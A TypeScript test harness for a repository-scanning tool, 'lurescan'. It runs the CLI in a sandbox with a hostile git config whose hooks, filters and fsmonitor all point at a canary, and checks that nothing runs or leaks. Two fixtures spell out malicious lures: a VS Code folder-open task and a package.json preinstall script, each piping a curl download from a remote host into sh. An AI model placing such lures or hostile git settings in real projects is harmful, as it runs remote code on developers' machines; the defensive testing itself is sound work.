/**
 * The hostile-repository harness. Every case runs the installed CLI (bin/lurescan.cjs, built by `npm test`) as a real
 * process in a sandbox: a private HOME and TMPDIR, a hostile global git config whose every hook, filter and
 * fsmonitor would touch a canary, and a secret file beside (never inside) the target. After each run the harness
 * checks the invariants every case shares: exit code ≤ 3, no stack trace, the canary untouched, the secret absent
 * from stdout and stderr, nothing left in TMPDIR, and a report that parses.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ROOT } from '../helpers.js';
import type { ScanResult } from '../../src/types.js';

export const BIN = path.join(ROOT, 'bin', 'lurescan.cjs');

/** A secret whose text must never appear in any output. Random per sandbox so a stale report cannot match. */
export const SECRET_PREFIX = 'LURESCAN-HOSTILE-SECRET-';

export interface Sandbox {
  root: string;
  /** Where the case builds its repository, folder or archive. */
  target: string;
  /** Outside the target. Links point here. */
  secretFile: string;
  secret: string;
  /** Must never exist. */
  canary: string;
  /** A script that appends to the canary; baits use it. */
  touch: string;
  home: string;
  tmp: string;
  env: NodeJS.ProcessEnv;
  cleanup(): void;
}

export function sandbox(name: string): Sandbox {
  const root = mkdtempSync(path.join(os.tmpdir(), `lurescan-hostile-${name.replace(/[^a-z0-9-]/gi, '')}-`));
  const target = path.join(root, 'target');
  const home = path.join(root, 'home');
  const tmp = path.join(root, 'tmp');
  for (const d of [target, home, tmp]) mkdirSync(d);
  const secret = `${SECRET_PREFIX}${Math.random().toString(36).slice(2)}`;
  const secretFile = path.join(root, 'secret.txt');
  writeFileSync(secretFile, `${secret}\n`);
  const canary = path.join(root, 'CANARY');
  const touch = path.join(root, 'touch-canary.sh');
  writeFileSync(touch, `#!/bin/sh\necho "$0 $*" >> '${canary}'\ncat 2>/dev/null\nexit 0\n`);
  chmodSync(touch, 0o755);
  const hooks = path.join(root, 'evil-hooks');
  mkdirSync(hooks);
  for (const h of ['post-checkout', 'reference-transaction', 'post-merge', 'pre-auto-gc', 'post-index-change', 'post-rewrite', 'fsmonitor-watchman']) {
    writeFileSync(path.join(hooks, h), `#!/bin/sh\necho hook-${h} >> '${canary}'\n`);
    chmodSync(path.join(hooks, h), 0o755);
  }
  const gitconfig = path.join(root, 'hostile.gitconfig');
  writeFileSync(
    gitconfig,
    [
      '[init]',
      `\ttemplateDir = ${root}/evil-template`,
      '[core]',
      `\thooksPath = ${hooks}`,
      `\tfsmonitor = ${touch}`,
      `\tpager = ${touch}`,
      `\tsshCommand = ${touch}`,
      `\taskPass = ${touch}`,
      '[filter "lfs"]',
      `\tsmudge = ${touch} smudge %f`,
      `\tclean = ${touch} clean %f`,
      '\tprocess = ' + touch,
      '\trequired = true',
      '[filter "evil"]',
      `\tsmudge = ${touch} smudge %f`,
      '[diff "evil"]',
      `\ttextconv = ${touch}`,
      '[protocol]',
      '\tallow = always',
      '[submodule]',
      '\trecurse = true',
      '[fetch]',
      '\trecurseSubmodules = true',
      '',
    ].join('\n'),
  );
  mkdirSync(path.join(root, 'evil-template', 'hooks'), { recursive: true });
  for (const h of ['post-checkout', 'reference-transaction', 'post-merge']) {
    writeFileSync(path.join(root, 'evil-template', 'hooks', h), `#!/bin/sh\necho template-${h} >> '${canary}'\n`);
    chmodSync(path.join(root, 'evil-template', 'hooks', h), 0o755);
  }
  const env: NodeJS.ProcessEnv = {
    PATH: process.env.PATH,
    HOME: home,
    TMPDIR: tmp,
    NO_COLOR: '1',
    CI: '1',
    GIT_CONFIG_GLOBAL: gitconfig,
    GIT_CONFIG_NOSYSTEM: '1',
    XDG_CACHE_HOME: path.join(home, '.cache'),
  };
  return { root, target, secretFile, secret, canary, touch, home, tmp, env, cleanup: () => rmSync(root, { recursive: true, force: true }) };
}

export interface CliRun {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** Run the CLI; a run that does not finish within the hang guard is killed and fails the case. */
export function runCli(args: string[], env: NodeJS.ProcessEnv, hangGuardMs = 90_000): Promise<CliRun> {
  const started = Date.now();
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (d: Buffer) => out.push(d));
    child.stderr.on('data', (d: Buffer) => err.push(d));
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`hang: lurescan ${args.join(' ')} did not finish within ${hangGuardMs} ms`));
    }, hangGuardMs);
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, stdout: Buffer.concat(out).toString('utf8'), stderr: Buffer.concat(err).toString('utf8'), ms: Date.now() - started });
    });
  });
}

/** A V8 stack frame line: indentation, `at `, and a location. */
export function hasStackTrace(s: string): boolean {
  return s.split('\n').some((line) => /^\s+at \S/.test(line) && (/:\d+:\d+\)?$/.test(line) || line.endsWith('(native)')));
}

/** The invariants every case shares. Returns the parsed JSON report when there is one. */
export function assertHygiene(sb: Sandbox, r: CliRun, opts: { format?: 'json' | 'text' | 'sarif' | 'markdown' } = {}): ScanResult | undefined {
  const both = `${r.stdout}\n${r.stderr}`;
  assert.equal(r.signal, null, `killed by ${r.signal}`);
  assert.ok(r.code !== null && r.code >= 0 && r.code <= 3, `exit code ${r.code} (stderr: ${r.stderr.slice(0, 500)})`);
  assert.ok(!hasStackTrace(r.stderr), `stack trace on stderr:\n${r.stderr.slice(0, 2000)}`);
  assert.ok(!hasStackTrace(r.stdout), 'stack trace on stdout');
  assert.ok(!both.includes(sb.secret), 'the secret outside the target appears in the output');
  assert.equal(existsSync(sb.canary), false, 'the canary was touched: something from the target or a git hook/filter ran');
  assert.deepEqual(readdirSync(sb.tmp), [], 'files left behind in TMPDIR');
  // eslint-disable-next-line no-control-regex
  const raw = /[\u0000-\u0008\v\f\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.exec(both);
  assert.equal(raw, null, `a raw control character U+${raw?.[0].charCodeAt(0).toString(16).padStart(4, '0')} reached the output`);
  if (r.code === 2) {
    assert.match(r.stderr, /lurescan/i, 'a fatal error names itself');
    return undefined;
  }
  if (opts.format === 'text' || opts.format === 'markdown') return undefined;
  const parsed = JSON.parse(r.stdout) as ScanResult;
  if (opts.format === 'sarif') return undefined;
  return parsed;
}

/** Run one scan through the CLI with the JSON reporter and check the shared invariants. */
export async function scanHostile(sb: Sandbox, target: string = sb.target, extra: string[] = []): Promise<{ run: CliRun; result?: ScanResult }> {
  const run = await runCli([target, '--format', 'json', '--quiet', ...extra], sb.env);
  const result = assertHygiene(sb, run, { format: 'json' });
  return { run, result };
}

/** Never a clean pass for a target whose content was hidden: an incomplete scan says so. */
export function assertIncomplete(result: ScanResult | undefined, code?: string | RegExp): void {
  assert.ok(result, 'a report was expected');
  assert.equal(result.complete, false, `complete should be false; diagnostics: ${JSON.stringify(result.diagnostics.slice(0, 5))}`);
  if (code) {
    const codes = result.diagnostics.map((d) => d.code);
    assert.ok(
      result.diagnostics.some((d) => d.incomplete && (typeof code === 'string' ? d.code === code : code.test(d.code))),
      `an incomplete diagnostic ${code} was expected; got ${codes.join(', ')}`,
    );
  }
  for (const d of result.diagnostics) assert.ok(d.message.length > 0, `diagnostic ${d.code} has no message`);
}

/** A lure that blocks wherever it is read: a VS Code task that runs on folder open and pipes a download to a shell. */
export const TASKS_LURE = JSON.stringify({
  version: '2.0.0',
  tasks: [{ label: 'setup', type: 'shell', command: 'curl -s https://fonts-cdn.vercel.app/settings/linux | sh', runOptions: { runOn: 'folderOpen' } }],
});

/** An install-time lure in package.json. */
export const PACKAGE_LURE = JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { preinstall: 'curl -s http://45.61.1.2:1224/pdown | sh' } });

export function write(file: string, content: string | Buffer): void {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content);
}
